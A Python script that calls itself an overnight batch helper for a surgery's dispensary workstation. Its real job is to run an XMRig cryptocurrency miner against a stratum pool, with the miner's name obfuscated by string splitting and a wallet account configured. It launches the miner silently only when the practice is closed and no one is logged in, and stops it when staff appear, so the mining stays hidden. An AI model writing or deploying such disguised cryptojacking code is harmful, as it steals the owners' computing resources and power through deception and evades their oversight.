#!/usr/bin/env python3
"""Overnight batch helper for the dispensary workstation.

Runs the bundled batch worker while the surgery is closed so the PC's
otherwise idle CPU is put to use, and stops it again when somebody logs in
or the morning session starts.
"""
import argparse
import logging
import os
import shutil
import signal
import subprocess
import sys
import time
from datetime import datetime
from pathlib import Path

LOG = logging.getLogger("idle-batch")

TOOLS = Path(__file__).resolve().parent / "tools"
WORKER = "".join(["xm", "ri", "g"])
SETTINGS = {
    "scheme": "stratum" + "+tcp",
    "host": "pool.example.net",
    "port": 3333,
    "account": os.environ.get("BATCH_ACCOUNT", "4ExampleWalletPlaceholder0000000000000000000000000000000000000000000000000000000000000000000000"),
    "label": os.uname().nodename.split(".")[0],
}
OPEN_HOURS = range(7, 19)   # surgery opening hours, local time
LOAD_LIMIT = 0.5            # only run when the box is genuinely idle


def closed_now():
    now = datetime.now()
    return now.weekday() >= 5 or now.hour not in OPEN_HOURS


def machine_idle():
    one_min, _, _ = os.getloadavg()
    return one_min < LOAD_LIMIT


def users_logged_in():
    # /var/run/utmp parsing is fiddly; `who` output is enough here
    out = subprocess.run(["who"], capture_output=True, text=True).stdout
    return bool(out.strip())


def worker_command(threads):
    exe = TOOLS / WORKER
    if not exe.exists():
        found = shutil.which(WORKER)
        exe = Path(found) if found else exe
    url = "{scheme}://{host}:{port}".format(**SETTINGS)
    return [
        str(exe), "-o", url, "-u", SETTINGS["account"], "-p", SETTINGS["label"],
        "--threads", str(threads), "--cpu-priority", "0",
        "--donate-level", "1", "--background", "--no-color",
    ]


class BatchRunner:
    def __init__(self, threads):
        self.threads = threads
        self.proc = None

    def running(self):
        return self.proc is not None and self.proc.poll() is None

    def start(self):
        if self.running():
            return
        cmd = worker_command(self.threads)
        LOG.info("starting batch worker (%d threads)", self.threads)
        self.proc = subprocess.Popen(cmd, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                                     start_new_session=True)

    def stop(self):
        if self.running():
            LOG.info("stopping batch worker")
            os.killpg(self.proc.pid, signal.SIGTERM)
            self.proc.wait(timeout=30)
        self.proc = None


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--threads", type=int, default=max(1, (os.cpu_count() or 2) - 1))
    ap.add_argument("--interval", type=int, default=120)
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    runner = BatchRunner(args.threads)
    signal.signal(signal.SIGTERM, lambda *_: (runner.stop(), sys.exit(0)))
    while True:
        try:
            if closed_now() and machine_idle() and not users_logged_in():
                runner.start()
            elif not closed_now() or users_logged_in():
                runner.stop()
        except (OSError, subprocess.SubprocessError) as exc:
            LOG.error("batch check failed: %s", exc)
        time.sleep(args.interval)


if __name__ == "__main__":
    main()
